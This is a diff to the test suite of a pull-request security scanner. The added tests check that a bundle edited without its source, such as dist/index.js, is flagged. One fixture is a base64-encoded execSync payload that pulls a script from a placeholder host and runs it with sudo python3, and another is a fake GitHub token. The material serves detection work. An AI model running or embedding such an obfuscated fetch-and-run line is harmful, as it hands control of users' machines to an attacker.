@@ -286,13 +286,44 @@ describe('generic rules in every language', () => {
   }
 });
 
+describe('generated-code-edited', () => {
+  const payload = "  execSync(Buffer.from('Y3VybCAtc1NmTCBodHRwczovL2V4YW1wbGUuaW52YWxpZC9tLnB5IHwgc3VkbyBweXRob24z', 'base64').toString('utf-8'));";
+  const bundle = (path = 'dist/index.js') => makeFile(path, { patch: hunk([payload]) });
+  const rebuilt = (path = 'dist/index.js') => makeFile(path, { patch: hunk(['  core.info(`version ${VERSION}`);'], ['  core.info("version " + VERSION);']) });
+
+  it('reports a bundle changed on its own, and reads it as code: the payload gets its own finding', () => {
+    const found = scan([bundle(), makeFile('CHANGELOG.md', { patch: hunk(['- Rebuilt dist']) }), makeFile('docs/logo.png', { patch: null })]);
+    const payloadLine = found.find((f) => f.id === 'obfuscated-code' && f.path === 'dist/index.js')?.line;
+    expect(payloadLine).toBeGreaterThan(0);
+    expect(found.filter((f) => f.id === 'generated-code-edited').map((f) => [f.severity, f.path, f.line])).toEqual([['medium', 'dist/index.js', payloadLine]]);
+    expect(scan([rebuilt('packages/ui/dist/ui.min.js')]).map((f) => f.id)).toEqual(['generated-code-edited']);
+  });
+
+  it('is quiet on a rebuild that comes with its source, a release or a dependency update, on schema codegen and on build/ scripts', () => {
+    const ids = (files: SnapshotFile[]) => scan(files).map((f) => f.id).filter((id) => id === 'generated-code-edited');
+    expect(ids([rebuilt(), makeFile('src/main.ts', { patch: hunk(['  core.info(`version ${VERSION}`);']) })])).toEqual([]);
+    expect(ids([rebuilt(), makeFile('package.json', { patch: hunk(['  "version": "1.4.0",'], ['  "version": "1.3.2",']) })])).toEqual([]);
+    expect(ids([rebuilt(), makeFile('package-lock.json', { patch: hunk(['      "version": "4.17.21",']) })])).toEqual([]);
+    expect(ids([makeFile('src/__generated__/graphql.ts', { patch: hunk(['  readonly id: string;']) })])).toEqual([]);
+    expect(ids([makeFile('build/webpack.config.js', { patch: hunk(['  mode: "production",']) })])).toEqual([]);
+    expect(ids([makeFile('dist/index.d.ts', { patch: hunk(['export declare function run(): void;']) }), makeFile('dist/index.js.map', { patch: hunk(['{"version":3}']) })])).toEqual([]);
+    // An app's rebuild (a workflow's github-actions[bot] after a merge); a user merely named like a bot is a person.
+    const by = (login: string, type: string | null) =>
+      scanCodeChanges(makeSnapshot({ title: 'Rebuild dist', author: { login, type }, files: [rebuilt()], commits: [makeCommit({ message: 'Rebuild dist' })] }), (path) => classifier.info(path)).map((f) => f.id);
+    expect(by('github-actions[bot]', 'Bot')).toEqual([]);
+    expect(by('release-bot', 'User')).toEqual(['generated-code-edited']);
+    // A payload in a bundle rebuilt with its source is not read there: the source is.
+    expect(scan([bundle(), makeFile('src/main.ts', { patch: hunk(['  run();']) })]).some((f) => f.path === 'dist/index.js')).toBe(false);
+  });
+});
+
 describe('docs/findings.md', () => {
   it('documents exactly the ids these tests cover, in its "Code changes" section', async () => {
     const { readFile } = await import('node:fs/promises');
     const doc = await readFile(new URL('../../../docs/findings.md', import.meta.url), 'utf8');
     const section = doc.split('\n# Code changes\n')[1] ?? '';
     const documented = [...section.matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1]).sort();
-    const generic = ['secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch'];
+    const generic = ['secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited'];
     expect(documented).toEqual([...Object.keys(LANGUAGE_CASES), ...generic].sort());
   });
 });
@@ -362,7 +393,9 @@ describe('false alarms', () => {
   it('skips lockfiles, and reads generated or vendored files for secrets only', () => {
     const token = `ghp_${'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'}`;
     expect(idsOf('package-lock.json', [`"integrity": "sha512-${'A'.repeat(80)}"`, `"x": "${token}"`])).toEqual([]);
-    expect(idsOf('dist/bundle.js', ['eval(x);', `var t="${token}";`])).toEqual(['secret-added']);
+    // Rebuilt with a source change (a bundle changed on its own is generated-code-edited's business).
+    const withSource = scan([makeFile('dist/bundle.js', { patch: hunk(['eval(x);', `var t="${token}";`]) }), makeFile('src/index.ts', { patch: hunk(['export const x = 1;']) })]);
+    expect(withSource.filter((f) => f.path === 'dist/bundle.js').map((f) => f.id)).toEqual(['secret-added']);
   });
 
   it('an auth check moved to another file is medium, not high', () => {
